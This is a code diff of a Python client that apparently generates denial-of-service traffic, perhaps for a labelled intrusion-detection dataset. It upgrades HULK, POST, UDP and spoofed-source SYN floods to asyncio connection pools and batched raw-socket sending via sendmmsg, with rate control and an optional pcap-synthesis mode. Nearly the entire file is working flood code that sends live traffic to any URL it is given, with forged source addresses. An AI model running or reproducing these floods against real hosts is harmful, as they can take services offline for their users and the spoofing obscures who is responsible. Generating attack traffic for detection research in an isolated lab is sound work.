@@ -10,161 +10,521 @@ Supported attack types:
 - synflood: TCP SYN flood (requires root)
 - udpflood: UDP packet flood
 - postflood: Mass concurrent HTTP POST requests
+
+The HTTP attacks run on asyncio: a fixed pool of connections (--concurrency)
+sends requests back to back, reusing each connection while the server keeps it
+open. The UDP and SYN floods send pre-built packets on a single socket, in
+batches of one sendmmsg() call (Linux; one sendto() per packet elsewhere).
+
+Every attack can be held to a target rate (--rate, requests or packets per
+second; unlimited by default) and reports the rate it actually achieved once
+per second and at the end. scenario.py combines these attacks into timed,
+reproducible scenarios. With --pcap, the traffic is synthesized into a capture
+file instead of being sent (pcapwriter.py).
+
+Usage:
+    python client.py --type hulk --url http://192.168.1.140:8080 --duration 60
+    python client.py --type udpflood --url http://192.168.1.140:8080 --rate 50000
+    python client.py --type synflood --url http://192.168.1.140:8080 --rate 1000000 --duration 10 --pcap syn.pcap
 """
 
-import requests
-import threading
-import time
+import argparse
+import asyncio
+import ctypes
+import os
 import random
-import string
-import socket
-from scapy.all import IP, TCP, send
 import socket
+import string
+import struct
+import sys
+import time
+from collections import Counter
+from urllib.parse import urlsplit
+
+UDP_PORT = 8080  # Default target port, in real attacks this value is randomized
+SYN_PORT = 8080
+SPOOFED_SRC = "192.168.1.100"  # Spoofed source IP to avoid self-blacklisting
+
+BATCH_SIZE = 64  # Packets per sendmmsg() call
+REQUEST_TIMEOUT = 5
+
+# Rate profiles are integrated in 10 ms slices, looking at most 60 s ahead
+PROFILE_STEP = 0.01
+PROFILE_HORIZON = 60
+
+# Default number of open connections of each HTTP attack
+CONCURRENCY = {"benign": 1, "hulk": 500, "postflood": 100}
+
+
+class Pacer:
+    """
+    Keeps a sender at a target rate: every call reserves the next time slot
+    for a number of units (requests or packets) and returns how long to wait.
+    Time lost to a slow sender is not caught up with bursts.
+
+    The rate may also be a function of the seconds since the pacer was created
+    (a rate profile, see scenario.py). Units are then released once the area
+    under the profile covers them, so ramps are followed closely and nothing
+    is sent while the profile is at zero.
+    """
+
+    def __init__(self, rate=None):
+        self.profile = rate if callable(rate) else None
+        self.interval = 1 / rate if rate and self.profile is None else 0
+        self.start = self.next = time.monotonic()
+
+    def current_rate(self):
+        """
+        Target rate at this moment (None when unlimited).
+        """
+        if self.profile is not None:
+            return self.profile(time.monotonic() - self.start)
+        return 1 / self.interval if self.interval else None
+
+    def delay(self, units=1):
+        if self.profile is not None:
+            return self._profile_delay(units)
+        if not self.interval:
+            return 0
+        now = time.monotonic()
+        if self.next < now:
+            self.next = now
+        delay = self.next - now
+        self.next += units * self.interval
+        return delay
+
+    def _profile_delay(self, units):
+        now = time.monotonic()
+        t = max(self.next, now) - self.start
+        horizon = t + PROFILE_HORIZON
+        # Integrate the profile in PROFILE_STEP slices until it covers the units
+        while units > 0 and t < horizon:
+            rate = self.profile(t)
+            if rate * PROFILE_STEP >= units:
+                t += units / rate
+                break
+            units -= rate * PROFILE_STEP
+            t += PROFILE_STEP
+        self.next = self.start + t
+        return self.next - now
+
+
+class Meter:
+    """
+    Counts what was sent and prints the achieved rate once per second.
+    """
+
+    def __init__(self, tag, unit, target=None):
+        self.tag = tag
+        self.unit = unit
+        self.target = target
+        self.total = 0
+        self.errors = 0
+        self.statuses = Counter()
+        self.start = self.last_report = time.monotonic()
+        self.last_total = 0
+
+    def add(self, count=1, status=None):
+        self.total += count
+        if status is not None:
+            self.statuses[status] += 1
+        now = time.monotonic()
+        if now - self.last_report >= 1:
+            rate = (self.total - self.last_total) / (now - self.last_report)
+            self.last_report, self.last_total = now, self.total
+            print(f"[{self.tag}] {rate:,.0f} {self.unit}/s{self._target()}, total {self.total:,}{self._statuses()}")
+
+    def error(self, e):
+        self.errors += 1
+        self.statuses[type(e).__name__] += 1
+        if self.errors == 1:
+            print(f"[{self.tag}] Error: {e}")
+
+    def _target(self):
+        target = self.target() if callable(self.target) else self.target
+        return f" (target {target:,.0f})" if target else ""
+
+    def _statuses(self):
+        return (" | " + ", ".join(f"{status}: {count}" for status, count in self.statuses.most_common())) \
+            if self.statuses else ""
+
+    def summary(self):
+        """
+        Prints and returns the totals and the average achieved rate.
+        """
+        elapsed = time.monotonic() - self.start
+        rate = self.total / elapsed if elapsed > 0 else 0.0
+        target = "" if callable(self.target) else self._target()
+        print(f"[{self.tag}] Sent {self.total:,} {self.unit} in {elapsed:.1f}s: "
+              f"{rate:,.0f} {self.unit}/s{target}{self._statuses()}")
+        return {"sent": self.total, "seconds": elapsed, "rate": rate, "errors": self.errors,
+                "statuses": dict(self.statuses)}
+
+
+# ---------- Batched datagram sending ----------
+
+class _IoVec(ctypes.Structure):
+    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]
+
+
+class _MsgHdr(ctypes.Structure):
+    _fields_ = [("msg_name", ctypes.c_void_p), ("msg_namelen", ctypes.c_uint32),
+                ("msg_iov", ctypes.POINTER(_IoVec)), ("msg_iovlen", ctypes.c_size_t),
+                ("msg_control", ctypes.c_void_p), ("msg_controllen", ctypes.c_size_t),
+                ("msg_flags", ctypes.c_int)]
+
+
+class _MMsgHdr(ctypes.Structure):
+    _fields_ = [("msg_hdr", _MsgHdr), ("msg_len", ctypes.c_uint)]
+
+
+def _load_sendmmsg():
+    """
+    Returns libc's sendmmsg, or None where it is not available.
+    """
+    if not sys.platform.startswith("linux"):
+        return None
+    try:
+        function = ctypes.CDLL(None, use_errno=True).sendmmsg
+    except (OSError, AttributeError):
+        return None
+    function.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]  # struct mmsghdr *
+    function.restype = ctypes.c_int
+    return function
+
+
+class BatchSender:
+    """
+    Sends pre-built datagrams to one IPv4 address, a batch per sendmmsg()
+    call. The message array is built once, so a batch costs a single system
+    call; consecutive batches walk through the datagrams in a ring. The socket
+    is not connected, so ICMP errors from the target (e.g. port unreachable)
+    do not fail later sends.
+    """
+
+    def __init__(self, sock, payloads, address):
+        self.sock = sock
+        self.payloads = payloads
+        self.address = address
+        self.offset = 0
+        self._sendmmsg = _load_sendmmsg()
+        if self._sendmmsg is not None:
+            # struct sockaddr_in: family, port (network order), address, padding
+            host, port = address
+            self._name = ctypes.create_string_buffer(
+                struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8), 16)
+            self._buffers = [(ctypes.c_char * len(payload)).from_buffer_copy(payload) for payload in payloads]
+            self._iovecs = (_IoVec * len(payloads))()
+            self._messages = (_MMsgHdr * len(payloads))()
+            for i, buffer in enumerate(self._buffers):
+                self._iovecs[i].iov_base = ctypes.addressof(buffer)
+                self._iovecs[i].iov_len = len(buffer)
+                header = self._messages[i].msg_hdr
+                header.msg_name = ctypes.addressof(self._name)
+                header.msg_namelen = 16
+                header.msg_iov = ctypes.pointer(self._iovecs[i])
+                header.msg_iovlen = 1
+            self._address = ctypes.addressof(self._messages)
+
+    def send(self, count=None):
+        """
+        Sends the next `count` datagrams (all of them by default).
+
+        :return: Number of datagrams sent
+        """
+        count = count or len(self.payloads)
+        total = 0
+        while total < count:
+            chunk = min(count - total, len(self.payloads) - self.offset)
+            if self._sendmmsg is None:
+                for payload in self.payloads[self.offset:self.offset + chunk]:
+                    self.sock.sendto(payload, self.address)
+                sent = chunk
+            else:
+                sent = self._sendmmsg(self.sock.fileno(), self._address + self.offset * ctypes.sizeof(_MMsgHdr),
+                                      chunk, 0)
+                if sent < 0:
+                    if total:
+                        break
+                    errno = ctypes.get_errno()
+                    raise OSError(errno, os.strerror(errno))
+            total += sent
+            self.offset = (self.offset + sent) % len(self.payloads)
+            if sent < chunk:
+                break
+        return total
+
+
+def _flood(tag, sock, payloads, address, duration, rate, batch_size=BATCH_SIZE):
+    """
+    Sends the pre-built payloads in batches until the duration is over.
+    `rate` is a number of packets per second or a rate profile.
+    """
+    sender = BatchSender(sock, payloads, address)
+    pacer = Pacer(rate)
+    meter = Meter(tag, "pkt", pacer.current_rate if rate else None)
+    end_time = time.monotonic() + duration
+    try:
+        while time.monotonic() < end_time:
+            batch = batch_size
+            target = pacer.current_rate()
+            if target is not None:
+                # At most 10 ms of traffic per batch, so low rates are not sent in bursts
+                batch = max(1, min(batch, int(target / 100)))
+            delay = pacer.delay(batch)
+            if delay > 0:
+                time.sleep(min(delay, end_time - time.monotonic()))
+                if time.monotonic() >= end_time:
+                    break
+            try:
+                meter.add(sender.send(batch))
+            except OSError as e:
+                # e.g. ENOBUFS when the interface queue is full; keep flooding
+                meter.error(e)
+    finally:
+        sock.close()
+    return meter.summary()
 
 
+# ---------- HTTP attacks ----------
 
-def benign_attack(target_url, duration):
-    """Sends regular HTTP requests at a fixed rate (1 per second)."""
-    end_time = time.time() + duration
-    while time.time() < end_time:
+async def _read_response(reader):
+    """
+    Reads one HTTP response.
+
+    :return: (status code, whether the connection can be reused)
+    """
+    status_line = await reader.readline()
+    if not status_line:
+        raise ConnectionResetError("Connection closed by the server")
+    version, status = status_line.split(b" ", 2)[:2]
+    headers = {}
+    while True:
+        line = await reader.readline()
+        if line in (b"\r\n", b"\n", b""):
+            break
+        name, _, value = line.partition(b":")
+        headers[name.strip().lower()] = value.strip().lower()
+
+    connection = headers.get(b"connection", b"")
+    keep_alive = connection == b"keep-alive" if version == b"HTTP/1.0" else connection != b"close"
+    if b"content-length" in headers:
+        await reader.readexactly(int(headers[b"content-length"]))
+    else:
+        # No length: the body ends when the server closes the connection
+        await reader.read()
+        keep_alive = False
+    return int(status), keep_alive
+
+
+async def _http_worker(host, port, use_ssl, build_request, end_time, pacer, meter, local_addr=None):
+    """
+    One pooled connection sending requests back to back until end_time,
+    reconnecting whenever the server closes it.
+    """
+    reader = writer = None
+    while time.monotonic() < end_time:
+        delay = pacer.delay()
+        if delay > 0:
+            await asyncio.sleep(min(delay, end_time - time.monotonic()))
+            if time.monotonic() >= end_time:
+                break
+        # Requests still pending when the attack ends are abandoned
+        deadline = min(time.monotonic() + REQUEST_TIMEOUT, end_time)
         try:
-            r = requests.get(target_url)
-            print(f"[BENIGN] Status: {r.status_code}")
-        except Exception as e:
-            print(f"[BENIGN] Error: {e}")
-        time.sleep(1)  # Delay to simulate typical browsing behavior
+            if writer is None:
+                reader, writer = await asyncio.wait_for(
+                    asyncio.open_connection(host, port, ssl=use_ssl, local_addr=local_addr), deadline - time.monotonic())
+            writer.write(build_request())
+            status, keep_alive = await asyncio.wait_for(_read_response(reader), deadline - time.monotonic())
+            meter.add(1, status)
+        except asyncio.TimeoutError as e:
+            if time.monotonic() < end_time:
+                meter.error(e)
+            keep_alive = False
+        except (OSError, asyncio.IncompleteReadError, ValueError) as e:
+            meter.error(e)
+            keep_alive = False
+        if not keep_alive and writer is not None:
+            writer.close()
+            writer = None
+    if writer is not None:
+        writer.close()
+
+
+async def _http_flood(tag, target_url, duration, build_request, rate, concurrency, sources=None):
+    url = urlsplit(target_url)
+    port = url.port or (443 if url.scheme == "https" else 80)
+    pacer = Pacer(rate)
+    meter = Meter(tag, "req", pacer.current_rate if rate else None)
+    end_time = time.monotonic() + duration
+    use_ssl = url.scheme == "https"
+    # Connections are spread over the source addresses, which must be assigned to this host
+    local_addrs = [(source, 0) for source in sources] if sources else [None]
+    await asyncio.gather(*(_http_worker(url.hostname, port, use_ssl, build_request, end_time, pacer, meter,
+                                        local_addrs[i % len(local_addrs)])
+                           for i in range(concurrency)))
+    return meter.summary()
+
+
+def _http_attack(tag, target_url, duration, build_request, rate, concurrency, sources=None):
+    return asyncio.run(_http_flood(tag, target_url, duration, build_request, rate, concurrency, sources))
+
 
-def hulk_attack(target_url, duration):
+def _request_target(target_url):
+    url = urlsplit(target_url)
+    return url.hostname if not url.port else f"{url.hostname}:{url.port}", (url.path or "/")
+
+
+def _payload_size(size, rng):
+    """
+    A payload size: fixed, or drawn uniformly from a (min, max) pair.
+    """
+    return rng.randint(*size) if isinstance(size, (list, tuple)) else size
+
+
+def benign_attack(target_url, duration, rate=1, concurrency=CONCURRENCY["benign"], sources=None, tag="BENIGN"):
+    """Sends regular HTTP requests at a fixed rate (1 per second by default)."""
+    host, path = _request_target(target_url)
+    request = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\n"
+               f"Accept: text/html\r\nConnection: keep-alive\r\n\r\n").encode()
+    return _http_attack(tag, target_url, duration, lambda: request, rate or 1, concurrency, sources)
+
+
+def hulk_attack(target_url, duration, rate=None, concurrency=CONCURRENCY["hulk"], sources=None, rng=random, tag="HULK"):
     """Simulates a Hulk attack by sending massive concurrent GET requests with random query strings."""
-    def send_request():
-        # Generate a random 8-character string to create a unique URL on each request
-        rand_str = ''.join(random.choices(string.ascii_letters, k=8))
-        try:
-            r = requests.get(f"{target_url}/?{rand_str}")
-            print(f"[HULK] Status: {r.status_code}")
-        except Exception as e:
-            print(f"[HULK] Error: {e}")
-
-    # Run the attack for the specified duration
-    end_time = time.time() + duration
-    while time.time() < end_time:
-        threads = []
-        
-        # Launch 500 concurrent requests in this cycle, can be altered for improved effectiveness
-        for _ in range(500):
-            t = threading.Thread(target=send_request)
-            t.start()
-            threads.append(t)
-
-        # Wait for all threads to finish before continuing
-        for t in threads:
-            t.join()
-
-def synflood_attack(target_url, duration):
+    host, path = _request_target(target_url)
+    prefix = f"GET {path.rstrip('/')}/?".encode()
+    suffix = f" HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: keep-alive\r\n\r\n".encode()
+
+    def build_request():
+        # A random 8-character string creates a unique URL on each request
+        return prefix + ''.join(rng.choices(string.ascii_letters, k=8)).encode() + suffix
+
+    return _http_attack(tag, target_url, duration, build_request, rate, concurrency, sources)
+
+
+def postflood_attack(target_url, duration, rate=None, concurrency=CONCURRENCY["postflood"], sources=None,
+                     size=512, rng=random, tag="POST-FLOOD"):
+    """
+    Simulates a flood of POST requests with random payloads of `size` bytes
+    (hex-encoded, so bodies are twice as long).
+    """
+    host, path = _request_target(target_url)
+    # Form-encoded random data; a pool avoids generating one body per request
+    requests_pool = []
+    for _ in range(256):
+        body = f"data={rng.randbytes(_payload_size(size, rng)).hex()}".encode()
+        requests_pool.append(
+            (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\n"
+             f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
+             f"Connection: keep-alive\r\n\r\n").encode() + body)
+    return _http_attack(tag, target_url, duration, lambda: rng.choice(requests_pool), rate, concurrency, sources)
+
+
+# ---------- Packet floods ----------
+
+def synflood_attack(target_url, duration, rate=None, batch_size=BATCH_SIZE, sources=None, port=SYN_PORT,
+                    rng=random, tag="SYN-FLOOD"):
     """
     Simulates a TCP SYN flood attack using raw packets (requires root privileges).
-    Sends spoofed SYN packets to exhaust server resources.
-    """
-    host = target_url.split("//")[1].split(":")[0]
-    end_time = time.time() + duration
-
-    def send_syn():
-        count = 0
-        src_ip = "192.168.1.100"  # Spoofed source IP to avoid self-blacklisting
-        while time.time() < end_time:
-            # Construct raw IP and TCP SYN packet
-            ip = IP(src=src_ip, dst=host)
-            tcp = TCP(sport=random.randint(1024,65535), dport=8080, flags="S", seq=random.randint(1000,9000))
-            packet = ip / tcp
-            send(packet, verbose=0)
-            count += 1
-            if count % 100 == 0:
-                print(f"Thread {threading.get_ident()}: Sent {count} SYN packets")
-
-    print(f"Starting SYN flood attack on {host} for {duration} seconds with 100 threads")
-
-    # Launch 100 parallel threads to simulate distributed source
-    threads = []
-    for _ in range(100):
-        t = threading.Thread(target=send_syn)
-        t.daemon = True
-        t.start()
-        threads.append(t)
-
-    for t in threads:
-        t.join()
+    Sends spoofed SYN packets, pre-built with Scapy (random source ports and
+    sequence numbers), to exhaust server resources. The source addresses
+    rotate over `sources` (SPOOFED_SRC by default).
+    """
+    from scapy.all import IP, TCP
 
+    host = socket.gethostbyname(urlsplit(target_url).hostname)
+    sources = sources or [SPOOFED_SRC]
+    packets = [bytes(IP(src=sources[i % len(sources)], dst=host) /
+                     TCP(sport=rng.randint(1024, 65535), dport=port, flags="S", seq=rng.randint(1000, 9000)))
+               for i in range(max(batch_size, len(sources)))]
+    # IPPROTO_RAW sends the IP header as built, as Scapy's L3RawSocket does
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    print(f"Starting SYN flood attack on {host} for {duration} seconds")
+    result = _flood(tag, sock, packets, (host, 0), duration, rate, batch_size)
     print("SYN flood attack finished")
+    return result
 
 
-def udpflood_attack(target_url, duration):
-    """Sends large volumes of random UDP packets to the target port."""
-    def send_packet():
-        host = target_url.split("//")[1].split(":")[0]
-        port = 8080 # Default target port, in real attacks this value is randomized
+def udpflood_attack(target_url, duration, rate=None, batch_size=BATCH_SIZE, sources=None, port=UDP_PORT,
+                    size=1024, rng=random, tag="UDP-FLOOD"):
+    """
+    Sends large volumes of random UDP packets (1 KB by default) to the target
+    port. With `sources`, the packets are built with those spoofed source
+    addresses and sent on a raw socket (requires root privileges).
+    """
+    host = socket.gethostbyname(urlsplit(target_url).hostname)
+    count = max(batch_size, len(sources or ()))
+    payloads = [rng.randbytes(_payload_size(size, rng)) for _ in range(count)]
+    if not sources:
         sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        msg = random._urandom(1024) # Random 1KB payload
-        try:
-            sock.sendto(msg, (host, port))
-            print(f"[UDP-FLOOD] Sent to {host}:{port}")
-        except Exception as e:
-            print(f"[UDP-FLOOD] Error: {e}")
-        finally:
-            sock.close()
-
-    end_time = time.time() + duration
-    while time.time() < end_time:
-        threads = []
-        for _ in range(100):
-            t = threading.Thread(target=send_packet)
-            t.start()
-            threads.append(t)
-        for t in threads:
-            t.join()
-
-def postflood_attack(target_url, duration):
-    """Simulates a flood of POST requests with random payloads."""
-    def send_post():
-        try:
-            payload = {"data": random._urandom(512).hex()} # 512 bytes of random data in hex
-            r = requests.post(target_url, data=payload)
-            print(f"[POST-FLOOD] Status: {r.status_code}")
-        except Exception as e:
-            print(f"[POST-FLOOD] Error: {e}")
-
-    end_time = time.time() + duration
-    while time.time() < end_time:
-        threads = []
-        for _ in range(100):
-            t = threading.Thread(target=send_post)
-            t.start()
-            threads.append(t)
-        for t in threads:
-            t.join()
-
-def run_attack(attack_type, target_url, duration):
-    """Dispatches the requested attack type."""
-    if attack_type == "benign":
-        benign_attack(target_url, duration)
-    elif attack_type == "hulk":
-        hulk_attack(target_url, duration)
+        return _flood(tag, sock, payloads, (host, port), duration, rate, batch_size)
+
+    from scapy.all import IP, UDP, Raw
+
+    packets = [bytes(IP(src=sources[i % len(sources)], dst=host) /
+                     UDP(sport=rng.randint(1024, 65535), dport=port) / Raw(load=payload))
+               for i, payload in enumerate(payloads)]
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    return _flood(tag, sock, packets, (host, 0), duration, rate, batch_size)
+
+
+def run_attack(attack_type, target_url, duration, rate=None, concurrency=None, batch_size=BATCH_SIZE):
+    """
+    Dispatches the requested attack type.
+
+    Returns:
+        dict: Packets or requests sent, duration, achieved rate and errors (None
+        for unknown attack types)
+    """
+    if attack_type in CONCURRENCY:
+        attack = {"benign": benign_attack, "hulk": hulk_attack, "postflood": postflood_attack}[attack_type]
+        return attack(target_url, duration, rate, concurrency or CONCURRENCY[attack_type])
     elif attack_type == "synflood":
-        synflood_attack(target_url, duration)
+        return synflood_attack(target_url, duration, rate, batch_size)
     elif attack_type == "udpflood":
-        udpflood_attack(target_url, duration)
-    elif attack_type == "postflood":
-        postflood_attack(target_url, duration)
+        return udpflood_attack(target_url, duration, rate, batch_size)
     else:
         print(f"Ataque {attack_type} no implementado. Opciones válidas: benign, hulk, goldeneye, slowhttptest, heartbleed, synflood, udpflood, postflood.")
+        return None
+
+def write_pcap(attack_type, target_url, duration, path, rate=None, batch_size=BATCH_SIZE, seed=0):
+    """
+    Synthesizes the traffic of an attack into a pcap file instead of sending
+    it (see pcapwriter.py). The rate defaults to pcapwriter.PCAP_RATES.
+
+    Returns:
+        list: The label records written next to the capture
+    """
+    from pcapwriter import TrafficStream, write_capture
+
+    url = urlsplit(target_url)
+    port = {"synflood": SYN_PORT, "udpflood": UDP_PORT}.get(attack_type, url.port or 80)
+    stream = TrafficStream(attack_type, socket.gethostbyname(url.hostname), port, 0, duration, rate,
+                           batch_size=batch_size)
+    labels = write_capture(path, [stream], seed, target_url=target_url)
+    print(f"[INFO] {labels[0]['packets']:,} packets written to '{path}' (labels: '{path}.labels.jsonl')")
+    return labels
+
 
 if __name__ == "__main__":
     # CLI interface to configure the attack
-    import argparse
-
     parser = argparse.ArgumentParser(description="Modular client to simulate various DoS attack types.")
     parser.add_argument("--type", required=True, help="Attack type: benign, hulk, synflood, udpflood, postflood")
     parser.add_argument("--url", required=True, help="Target URL, e.g., http://192.168.1.140:8080")
     parser.add_argument("--duration", type=int, default=60, help="Duration of the attack in seconds")
+    parser.add_argument("--rate", type=float, help="Target requests (HTTP) or packets (floods) per second; default: as fast as possible (benign: 1)")
+    parser.add_argument("--concurrency", type=int, help="Open connections of HTTP attacks (default: hulk 500, postflood 100, benign 1)")
+    parser.add_argument("--batch", type=int, default=BATCH_SIZE, help=f"Packets per sendmmsg() call in floods (default: {BATCH_SIZE})")
+    parser.add_argument("--pcap", help="Write the traffic to this pcap file instead of sending it (no root or network needed)")
+    parser.add_argument("--seed", type=int, default=0, help="Seed of the synthesized capture (--pcap)")
 
     args = parser.parse_args()
-    run_attack(args.type.lower(), args.url, args.duration)
+    if args.pcap:
+        try:
+            write_pcap(args.type.lower(), args.url, args.duration, args.pcap, args.rate, args.batch, args.seed)
+        except ValueError as e:
+            print(f"[ERROR] {e}")
+    else:
+        run_attack(args.type.lower(), args.url, args.duration, args.rate, args.concurrency, args.batch)